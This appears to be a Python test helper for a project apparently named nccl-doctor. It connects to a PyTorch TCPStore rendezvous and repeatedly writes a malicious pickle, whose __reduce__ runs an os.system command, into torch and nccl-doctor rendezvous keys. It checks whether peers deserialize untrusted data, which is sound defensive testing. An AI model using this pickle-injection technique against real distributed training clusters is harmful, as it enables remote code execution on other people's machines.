"""A hostile client of a rendezvous store: it connects to HOST:PORT like any peer on the network and writes a
pickle whose ``__reduce__`` runs ``touch MARKER`` into every key it can guess, over and over, until the time is
up, the marker exists (the code ran) or STOP does. Run as ``python -m tests.helpers.rdzv_attack HOST PORT
RDZV_ID MARKER SECONDS STOP``; prints one JSON line: how many writes it made and whether it ever connected.

The keys: torch's dynamic rendezvous state (``torch.rendezvous.<id>``, base64 as its c10d backend stores it,
bare and under the run's prefix) and the flags of nccl-doctor's own rendezvous (``<id>/nccl-doctor/...``).
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import sys
import time
from datetime import timedelta

CONNECT_TIMEOUT_S = 1.0
PAUSE_S = 0.05
MAX_NODES = 4


class Touch:
    """Unpickling this runs ``touch <marker>``."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.marker}",)


def payloads(rdzv_id: str, marker: str) -> list[tuple[str, bytes]]:
    raw = pickle.dumps(Touch(marker))
    encoded = base64.b64encode(raw)
    state = f"torch.rendezvous.{rdzv_id}"
    keys = [(state, encoded), (f"{rdzv_id}/{state}", encoded), (f"/{state}", encoded)]
    keys += [(f"{rdzv_id}/nccl-doctor/arrived/{i}", raw) for i in range(MAX_NODES)]
    return keys


def attack(host: str, port: int, rdzv_id: str, *, marker: str, seconds: float, stop: str) -> dict[str, object]:
    import torch.distributed as dist

    end = time.monotonic() + seconds
    store = None
    writes = 0
    connected = False
    while time.monotonic() < end and not os.path.exists(marker) and not os.path.exists(stop):
        try:
            if store is None:
                store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False,
                                      timeout=timedelta(seconds=CONNECT_TIMEOUT_S))
                connected = True
            for key, value in payloads(rdzv_id, marker):
                store.set(key, value)
                writes += 1
        except Exception:  # not up yet, or gone: connect again
            store = None
        time.sleep(PAUSE_S)
    return {"writes": writes, "connected": connected, "marker": os.path.exists(marker)}


if __name__ == "__main__":
    h, p, rid, m, s, stop_file = sys.argv[1:7]
    print(json.dumps(attack(h, int(p), rid, marker=m, seconds=float(s), stop=stop_file)), flush=True)
